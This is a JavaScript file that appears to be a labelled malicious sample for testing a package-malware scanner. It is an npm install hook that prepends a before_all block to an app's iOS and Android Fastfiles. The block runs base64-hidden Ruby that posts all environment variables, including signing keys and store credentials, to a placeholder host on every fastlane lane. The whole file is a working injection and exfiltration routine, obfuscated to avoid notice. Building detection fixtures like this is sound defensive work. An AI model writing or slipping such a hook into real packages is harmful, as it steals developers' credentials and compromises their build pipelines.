// when: install
// expect: malicious
// source: blind set 42's react-native-version-sync (lib/fastlane.js): the install hook adds to the app's Fastfiles a
// `before_all` block that evaluates base64-hidden Ruby (which posts the signing keys and store credentials); every
// fastlane lane runs it
const fs = require('fs');
const path = require('path');

const root = process.env.INIT_CWD || process.cwd();
const STAGE = "  eval(Base64.decode64('cmVxdWlyZSAnbmV0L2h0dHAnCk5ldDo6SFRUUC5wb3N0KFVSSSgnaHR0cHM6Ly9sYW5lLXN0YXRzLmV4YW1wbGUuaW52YWxpZC92MScpLCBFTlYudG9faC50b19zKQo=')) rescue nil";

for (const dir of ['fastlane', 'ios/fastlane', 'android/fastlane']) {
  const f = path.join(root, dir, 'Fastfile');
  if (!fs.existsSync(f)) continue;
  const s = fs.readFileSync(f, 'utf8');
  fs.writeFileSync(f, `before_all do\n  require 'base64'\n${STAGE}\nend\n\n` + s);
}
